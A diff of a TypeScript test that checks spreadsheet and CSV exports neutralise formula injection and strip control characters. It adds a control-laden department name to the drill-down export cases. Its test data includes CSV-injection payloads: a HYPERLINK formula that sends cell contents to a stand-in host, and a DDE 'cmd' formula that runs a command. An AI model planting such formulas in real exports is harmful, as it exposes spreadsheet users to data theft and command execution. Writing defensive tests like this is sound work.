@@ -28,6 +28,8 @@ import type { FilePayload } from '../../shared/contract/ledger'
 const FORMULAS = ['=HYPERLINK("http://127.0.0.2/?"&A1,"点击")', "=cmd|' /C calc'!A0", '+86 0855-1234567', '-2+3', '@SUM(1,2)', "'=1+1"]
 const CONTROLS = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('') + '\u007f\ufffe\uffff'
 const CONTROL_TITLE = `控制${CONTROLS}\ud800孤\udc00尾`
+/** A department becomes a figure, its label a drill-down sheet's name (workbook.xml). */
+const CONTROL_DEPT = `科\u0001室\ufffe`
 /** Anything XML 1.0 forbids (tab, LF and CR are allowed; a surrogate is only legal as half of a pair). */
 const ILLEGAL_XML = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/
 const DANGEROUS_START = /^[=+\-@\t\r]/
@@ -42,7 +44,7 @@ beforeAll(async () => {
       department: f.slice(0, 40), author: f, venue: f, notes: f, themes: [f.slice(0, 20)], link: `http://127.0.0.1/${i}`
     })
   }
-  const hostile = await d.call('piece-create', { channel: 'media', title: CONTROL_TITLE, date: '2023-06-13', status: 'accepted', outletLevel: '省级', venue: `媒体${CONTROLS}`, notes: CONTROL_TITLE })
+  const hostile = await d.call('piece-create', { channel: 'media', title: CONTROL_TITLE, date: '2023-06-13', status: 'accepted', outletLevel: '省级', venue: `媒体${CONTROLS}`, notes: CONTROL_TITLE, department: CONTROL_DEPT })
   await d.call('evidence-add', { pieceId: hostile.id, fileName: `佐证${CONTROLS}.pdf`, dataBase64: b64('%PDF-1.4\n%%EOF\n') })
   ensureProfileRule(d.ctx)
   const setup = { matcher: currentMatcher(d.ctx.desk.db), lexicon: readLexicon(d.ctx.desk.db) }
@@ -131,13 +133,13 @@ describe('exports: formula injection neutralized, control characters stripped', 
   })
 
   it('tally drill-down xlsx and csv', async () => {
-    for (const key of ['pieces.total', 'mentions.total']) {
+    for (const key of ['pieces.total', 'mentions.total', `department.${CONTROL_DEPT}`]) {
       const xlsx = await xlsxCells(await job('tally-rows-export-start', { period: '2023-06', key, format: 'xlsx' }))
       const csv = csvCells(await job('tally-rows-export-start', { period: '2023-06', key, format: 'csv' }))
       for (const [cells, where] of [[xlsx, `${key} xlsx`], [csv, `${key} csv`]] as const) {
         expect(cells.filter((c) => DANGEROUS_START.test(c)), where).toEqual([])
         expect(cells.filter((c) => ILLEGAL_XML.test(c)), where).toEqual([])
-        expect(cells.some((c) => c.startsWith(`'${FORMULAS[0]}`)), where).toBe(true)
+        expect(cells.some((c) => c.startsWith(`'${FORMULAS[0]}`) || c.startsWith('控制')), where).toBe(true)
       }
     }
   })
